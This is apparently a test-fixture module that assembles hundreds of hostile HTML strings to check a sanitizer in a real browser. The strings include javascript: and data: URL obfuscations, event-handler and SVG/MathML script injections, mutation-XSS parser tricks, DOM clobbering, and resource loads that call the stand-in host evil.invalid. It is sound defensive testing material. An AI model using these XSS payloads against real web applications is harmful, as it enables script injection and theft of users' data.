/**
 * Descriptions that want to run, load or overlay something: every one of them is shown in a real Chromium by the tests. Whatever
 * runs sets `window.hit` or asks `https://evil.invalid`. The last words of each are `safe <n>`, so that a test sees it was shown.
 */
const RUN = 'window.hit=1';
const OUT = 'https://evil.invalid';

const events = [
  ...['abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'beforetoggle'],
  ...['begin', 'blur', 'canplay', 'change', 'click', 'contentvisibilityautostatechange'],
  ...[
    'contextmenu',
    'copy',
    'cut',
    'dblclick',
    'drag',
    'end',
    'ended',
    'error',
    'focus',
    'focusin',
  ],
  ...['formdata', 'hashchange', 'input', 'invalid', 'keydown', 'load', 'loadstart', 'message'],
  ...['mousedown', 'mouseenter', 'mousemove', 'mouseover', 'mouseup', 'pageshow', 'paste'],
  ...['pointerdown', 'pointerenter', 'pointermove', 'pointerover', 'pointerrawupdate', 'repeat'],
  ...['reset', 'resize', 'scroll', 'scrollend', 'search', 'select', 'selectionchange', 'show'],
  ...['start', 'submit', 'toggle', 'touchstart', 'transitionend', 'unload', 'wheel'],
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:${OUT}/x`,
  `file:///etc/passwd`,
  `filesystem:${OUT}/x`,
  `view-source:${OUT}`,
  `//evil.invalid/x`,
  `/\\evil.invalid`,
  `#/settings`,
  `./settings`,
  `?x=1`,
];

const withAddress = addresses.flatMap((address) => [
  `<a href="${address}">press</a>`,
  `<a href='${address}' target="_top" download ping="${OUT}">press</a>`,
]);

const loading = [
  `<img src="${OUT}/i.png">`,
  `<img srcset="${OUT}/i.png 2x" loading="eager">`,
  `<picture><source srcset="${OUT}/i.png"><img></picture>`,
  `<video src="${OUT}/v" poster="${OUT}/p" autoplay></video>`,
  `<audio src="${OUT}/a" autoplay></audio>`,
  `<track src="${OUT}/t">`,
  `<link rel="stylesheet" href="${OUT}/s.css">`,
  `<link rel="prefetch" href="${OUT}/s">`,
  `<link rel="dns-prefetch" href="${OUT}">`,
  `<link rel="import" href="${OUT}">`,
  `<base href="${OUT}/">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<iframe src="${OUT}"></iframe>`,
  `<frameset><frame src="${OUT}"></frameset>`,
  `<embed src="${OUT}/e">`,
  `<object data="${OUT}/o"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<applet code="${OUT}"></applet>`,
  `<body background="${OUT}/b">`,
  `<table background="${OUT}/t"><tr><td background="${OUT}/d">x</td></tr></table>`,
  `<p style="background:url(${OUT}/b)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="-moz-binding:url(${OUT})">x</p>`,
  `<style>@import "${OUT}/s.css";</style>`,
  `<style>body{display:none}</style>`,
  `<svg><image href="${OUT}/i"/></svg>`,
  `<svg><use href="${OUT}/u#x"/></svg>`,
  `<svg><style>@import "${OUT}"</style></svg>`,
  `<input type="image" src="${OUT}/i">`,
  `<form action="${OUT}"><input name="a" autofocus><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<isindex action="${OUT}" type="image">`,
  `<portal src="${OUT}"></portal>`,
];

const running = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\t>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="1em">x</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><foreignObject><iframe onload="${RUN}"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<p popover onbeforetoggle="${RUN}">x</p>`,
  `<x-element onclick="${RUN}" is="x">x</x-element>`,
  `<p id="app" class="card" name="body" data-x="1" aria-label="x" tabindex="0" contenteditable slot="s">x</p>`,
  `<form id="content"><input name="attributes"><input name="childNodes"></form>`,
  `<a id="deps"></a><a id="deps" name="host" href="x:y">x</a>`,
];

/** What changes its meaning when it is written and read once more. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><title><a id="</title><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml <img src=x onerror=${RUN}> ?>`,
  `<p title="\`><img src=x onerror=${RUN}>">x</p>`,
  `<a href="https://a.example/" title="a"onmouseover="${RUN}">x</a>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:x onerror\u000c=${RUN}>`,
  `<table><tr><td colspan="9999999999" rowspan="-1" onclick="${RUN}">x</td></tr></table>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<p>\u202ecod.exe</p><p>{{constructor.constructor('${RUN}')()}}</p>`,
  `${'<div>'.repeat(500)}<img src=x onerror=${RUN}>`,
  `${'<b><i><table>'.repeat(60)}<script>${RUN}</script>`,
];

/** Each closed: nothing behind it is swallowed. */
const closed = [
  ...events.flatMap((name) => [
    `<p on${name}="${RUN}" style="animation:x 1s" autofocus tabindex="1">x</p>`,
    `<svg on${name}="${RUN}"><animate on${name}="${RUN}" attributeName="x" dur="1s"/></svg>`,
  ]),
  ...withAddress,
];
const open = [
  ...['load', 'error', 'focus', 'toggle'].flatMap((name) =>
    ['img src=x', 'body', 'input autofocus', 'video src=x', 'iframe', 'style', 'details open'].map(
      (tag) => `<${tag} on${name}=${RUN}>`,
    ),
  ),
  ...loading,
  ...running,
  ...mutating,
];

export const hostileHtml: readonly string[] = [...closed, ...open].map(
  (html, n) => `${html}<p>safe ${n}</p>`,
);

/** The same, four to a description where they leave each other be: for what is slow for each. */
export const hostileDescriptions: readonly string[] = [
  ...closed.flatMap((_, at) => (at % 4 === 0 ? [closed.slice(at, at + 4).join('\n')] : [])),
  ...open,
];
